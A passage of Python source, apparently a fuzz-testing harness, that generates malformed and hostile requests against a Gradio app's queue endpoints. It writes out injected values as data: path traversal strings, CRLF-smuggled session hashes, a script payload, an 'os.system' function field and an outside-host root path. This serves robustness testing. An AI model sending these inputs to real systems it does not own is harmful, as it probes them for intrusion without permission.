        return HostileRequest("bad length", begin + random.choice(refused), must_be_answered=False, may_be_several=True)
    if draw < 0.7:
        return HostileRequest("hidden request", begin + random.choice(several), may_be_several=True)
    return HostileRequest("not HTTP", random.choice(nonsense), must_be_answered=False, may_be_several=True)


# --- the page's events -----------------------------------------------------------------------------------------------


def _event_request(random: Random, target: Target) -> HostileRequest:
    any_value = partial(value, random, target)
    number, inputs = random.choice(target.events)
    if random.random() < 0.15:
        number = random.choice((-1, random.randrange(60), 10**6, "1", None, any_value()))
    data: Any = [_event_value(random, target) for _ in range(inputs)]
    if random.random() < 0.1:
        data = random.choice((data[:-1], [*data, 1], [], any_value(), data * 1000))
    session = f"s{random.randrange(10**9)}"
    odd = random.choice(("", "../x", "\ud800", "x" * 65, "a b", any_value())) if random.random() < 0.1 else session
    record: dict[str, Any] = {"data": data, "fn_index": number, "session_hash": odd}
    extra: dict[str, Any] = {
        "event_data": {"index": any_value(), "value": any_value(), "_data": any_value(), "target": 1, "selected": True},
        "trigger_id": random.choice((0, 1, 30, 1000, 1001, -1, "1", any_value())),
        "event_id": "x",
        "simple_format": True,
        "batched": True,
        "request": any_value(),
        "oauth_token": "x",
        "root_path": f"http://{target.outside}",
        "fn": "os.system",
        "api_name": "/predict",
    }
    for name, content in extra.items():
        if random.random() < 0.15:
            record[name] = content if random.random() < 0.7 else any_value()
    if random.random() < 0.03:
        del record[random.choice(list(record))]
    body = json.dumps(record).encode() if random.random() < 0.85 else encode(random, record)
    stream = request("GET", f"/gradio_api/queue/data?session_hash={session}")
    headers = _JSON if random.random() < 0.9 else _content_headers(random)
    return _post("page's event", "/gradio_api/queue/join", body, headers, follow_up=stream if odd == session else b"")


def _event_value(random: Random, target: Target) -> Any:
    """Return a value that the page might send in one position of an event, or anything else."""
    kept = [{"question": text(random, target), "language": "en", "answer": value(random, target), "id": "x"}]
    likely = (text(random, target), "en", "es", None, "", kept, [], json.dumps(kept), "peru-2022/38-39", True)
    if random.random() < 0.2:
        return file_object(random, target)
    return random.choice(likely) if random.random() < 0.5 else value(random, target)


def _stream_request(random: Random, target: Target) -> HostileRequest:
    session = random.choice(
        ("", "x", "unknown", "../x", "%00", "x" * 65, "x&session_hash=y", "%ff", SCRIPT, "s1%0d%0ay")
    )
    return HostileRequest("page's stream", request("GET", f"/gradio_api/queue/data?session_hash={session}"))


def _quote(random: Random, words: str) -> str:
    """Quote a text for an address: correctly, partly, or not at all."""
    raw = words.encode("utf-8", "surrogatepass")
    if random.random() < 0.7:
        return "".join(f"%{byte:02x}" for byte in raw[:7_000])
    return (
        words[:7_000].replace(" ", "+") if random.random() < 0.5 else words[:7_000].replace("\r", "").replace("\n", "")
    )


def _encode_loosely(words: str) -> bytes:
    return words.encode("utf-8", "surrogatepass")


_KINDS: dict[Callable[[Random, Target], HostileRequest], int] = {
    _path_request: 30,
    _method_request: 5,
    _header_request: 14,
    _framing_request: 8,
    _ask_request: 12,
    _search_request: 7,
    _entry_request: 5,
    _tool_request: 8,
    _event_request: 10,
    _stream_request: 1,
}
